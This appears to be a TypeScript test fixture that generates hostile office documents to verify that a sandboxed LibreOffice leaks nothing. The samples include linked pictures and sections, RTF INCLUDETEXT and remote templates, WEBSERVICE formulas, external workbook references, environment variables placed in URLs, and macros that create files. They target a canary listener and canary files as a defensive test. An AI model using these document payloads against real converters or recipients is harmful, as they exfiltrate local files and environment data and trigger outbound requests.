import { openDocument } from '../documents/documents.ts';
import { drawing, frame, linkedImage, linkingText, section, slideWithPictures } from './links.ts';
import {
  copies,
  expanded,
  reference,
  sheet,
  webservice,
  withFunction,
  withMacro,
  workbook,
} from './spreadsheets.ts';

/** The targets of hostile documents. */
export interface Canaries {
  /** URL of a listener that must receive no request. */
  http: string;
  /** Path of a text file whose content must appear on no page. */
  text: string;
  /** Path of a picture in one colour that must appear on no page. */
  picture: string;
  /** Path of a file that must not be created. */
  made: string;
}

/** The effects of a document in a LibreOffice without protection. */
export interface Reach {
  /** Paths that LibreOffice requests from the listener. */
  calls?: string[];
  /** The text of the file or of the environment is on a page. */
  text?: true;
  /** The picture is on a page. */
  picture?: true;
  /** The file is created. */
  made?: true;
}

export interface Hostile {
  name: string;
  extension: string;
  content: Buffer;
  /** Whether LibreOffice's settings do not prevent it, and only the sandbox does. */
  onlyContained?: boolean;
  reaches: Reach;
}

/** The value of the variable `CANARY`; it can be a part of a URL. */
export const ENVIRONMENT = 'canary-of-the-environment';

/**
 * Documents that try in several ways to read files, to send requests and to create files. `reaches` lists what
 * LibreOffice 7.4 does without protection. It does not follow the other attempts either, so the tests prove nothing
 * about them: parts of other Word documents and templates, pictures over HTTP and INCLUDETEXT in RTF, pictures over HTTP
 * in SVG, variables in the URLs of pictures and sections, and macros when a text is opened without a window.
 */
export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
  const of = (name: string, extension: string, reaches: Reach, content: Buffer): Hostile => ({
    name,
    extension,
    content,
    reaches,
  });
  const odt = (name: string, reaches: Reach, ...bodies: string[]) =>
    of(name, 'odt', reaches, openDocument('text', bodies.join('')));
  const file = (path: string) => `file://${path}`;
  const object = `<draw:object-ole xlink:href="${http}/object" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
  return [
    of(
      'a Word document with links to pictures and texts, and with a template at a URL',
      'docx',
      { calls: ['/word.png'], picture: true },
      linkingText(
        [
          { type: 'image', url: `${http}/word.png` },
          { type: 'image', url: file(image) },
          { type: 'aFChunk', url: `${http}/a.docx` },
          { type: 'aFChunk', url: file(text) },
          { type: 'subDocument', url: `${http}/b.docx` },
          { type: 'subDocument', url: file(text) },
        ],
        `${http}/a.dotm`,
      ),
    ),
    of(
      'a slide with linked pictures',
      'pptx',
      { calls: ['/slide.png'], picture: true },
      slideWithPictures(`${http}/slide.png`, file(image)),
    ),
    odt(
      'an OpenDocument text with links over HTTP',
      { calls: ['/text.png', '/section.odt', '/object'] },
      linkedImage(`${http}/text.png`),
      section(`${http}/section.odt`),
      drawing(`${http}/drawing.png`),
      frame(object),
    ),
    odt(
      'an OpenDocument text with links to files of this machine',
      { picture: true, text: true },
      linkedImage(file(image)),
      section(file(text)),
    ),
    odt(
      'a text with environment variables in its URLs',
      {},
      linkedImage(expanded(`${http}/picture`)),
      section(expanded(`${http}/section`)),
    ),
    {
      ...odt('a drawing with a picture of this machine', { picture: true }, drawing(file(image))),
      onlyContained: true,
    },
    {
      ...of(
        'RTF fields with pictures and texts, and with a template at a URL',
        'rtf',
        { picture: true },
        Buffer.from(
          `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst { INCLUDEPICTURE "${image}" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDEPICTURE "${http}/f.png" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDETEXT "${text}" }}{\\fldrslt {}}}}`,
        ),
      ),
      onlyContained: true,
    },
    of(
      'an Excel workbook with WEBSERVICE',
      'xlsx',
      { calls: ['/excel-webservice'] },
      workbook([`_xlfn.WEBSERVICE("${http}/excel-webservice")`]),
    ),
    of(
      'an Excel workbook with references to other workbooks',
      'xlsx',
      { calls: ['/other.xlsx'] },
      workbook(['[1]a!A1', '[2]a!A1'], [`${http}/other.xlsx`, file(text)]),
    ),
    of(
      'an OpenDocument spreadsheet with WEBSERVICE',
      'ods',
      { calls: ['/webservice'] },
      sheet([webservice(`${http}/webservice`)]),
    ),
    of(
      'references to cells of other spreadsheets, with an environment variable in a URL',
      'ods',
      { calls: ['/other.ods', `/cell/${ENVIRONMENT}`] },
      sheet([reference(`${http}/other.ods`), reference(expanded(`${http}/cell`)), reference(file(text))]),
    ),
    of(
      'sheets and ranges that are copies of other files',
      'ods',
      { calls: ['/sheet.ods', '/range.txt', `/sheet/${ENVIRONMENT}`], text: true },
      copies([`${http}/sheet.ods`, expanded(`${http}/sheet`)], [`${http}/range.txt`, file(text)]),
    ),
    of('a text with a macro that runs when the text is opened', 'odt', {}, withMacro(made)),
    of(
      'a spreadsheet with a macro that computes a cell',
      'ods',
      { made: true, text: true },
      withFunction(made),
    ),
  ];
}
